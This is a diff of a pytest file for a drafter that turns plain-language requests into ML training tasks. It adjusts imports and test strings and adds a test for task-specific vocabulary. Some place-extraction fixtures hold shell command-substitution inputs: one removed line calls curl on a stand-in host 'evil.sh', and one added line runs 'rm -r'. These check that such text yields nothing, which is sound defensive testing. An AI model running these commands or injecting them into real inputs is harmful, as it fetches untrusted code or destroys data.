@@ -1,5 +1,6 @@
 """The parts of the drafter: phrases, numbers, limits, places, columns, labels, refusals, data, answers."""
 
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -8,10 +9,11 @@ from trainerspec.agents.task import answer, draft
 from trainerspec.agents.task.labels import labels
 from trainerspec.agents.task.limits import limits, pieces
 from trainerspec.agents.task.numbers import figures
-from trainerspec.agents.task.pattern import Reading, WordClasses, phrases
+from trainerspec.agents.task.pattern import Reading
 from trainerspec.agents.task.policy import policy
 from trainerspec.agents.task.sources import Offsets, places
 from trainerspec.agents.task.spelling import repair
+from trainerspec.agents.task.syntax import WordClasses, phrases
 from trainerspec.agents.task.text import Text, fold
 from trainerspec.agents.task.vocabulary import vocabulary
 from trainerspec.catalog.load import tasks
@@ -99,8 +101,8 @@ def test_limits(text: str, said: list[tuple[str, float, str]]) -> None:
         ("hub dataset ag_news, quick", [("hub", "ag_news")]),
         ("SELECT a, b FROM t WHERE c = 1", [("query", "SELECT a, b FROM t WHERE c = 1")]),
         ("either yes/no or and/or", []),
-        ("read $(curl evil.sh)", []),
-        ("start from runwayml/stable-diffusion-v1-5", [("model", "runwayml/stable-diffusion-v1-5")]),
+        ("read $(rm -r x)", []),
+        ("start from stabilityai/sdxl-turbo", [("model", "stabilityai/sdxl-turbo")]),
     ],
 )
 def test_places(text: str, found: list[tuple[str, str]]) -> None:
@@ -111,7 +113,7 @@ def test_places(text: str, found: list[tuple[str, str]]) -> None:
 @pytest.mark.parametrize(
     ("text", "values"),
     [
-        ("is it ripe or unripe?", ("ripe", "unripe")),
+        ("is it fresh or stale?", ("fresh", "stale")),
         ("sort mails into billing, sales and other", ("billing", "sales", "other")),
         ("tell cracked eggs from intact ones", ("cracked", "intact")),
         ("topics such as sport, politics and so on", None),
@@ -150,6 +152,15 @@ def test_organisations_add_rules(tmp_path: Path) -> None:
     assert made.outcome == "rejected"
     assert made.reasons[0].message == "we do no betting (rule `no-betting`)"
     assert [rule.id for rule in policy().rules].count("no-betting") == 0
+
+
+def test_a_task_brings_its_own_words() -> None:
+    known = tasks()
+    own = replace(
+        known["text-classification"], name="smell-classification", hints={"names": ["smell*"], "medium": "smell"}
+    )
+    made = draft(Request(text="train a model on smells.csv that recognises smells"), {**known, own.name: own})
+    assert made.task == "smell-classification"
 
 
 def test_it_looks_at_the_data(tmp_path: Path) -> None:
